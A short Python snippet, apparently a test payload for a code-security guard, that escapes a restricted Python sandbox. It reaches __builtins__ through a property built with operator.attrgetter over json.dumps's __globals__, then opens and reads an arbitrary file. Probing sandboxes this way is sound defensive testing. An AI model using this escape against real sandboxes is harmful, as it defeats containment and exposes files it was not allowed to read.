# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: a property whose getter walks for the reader
import operator
class Box:
    names = property(operator.attrgetter("function.__globals__"))
    function = json.dumps
return "ESCAPED " + Box().names["__builtins__"]["open"](inputs["file"]).read()
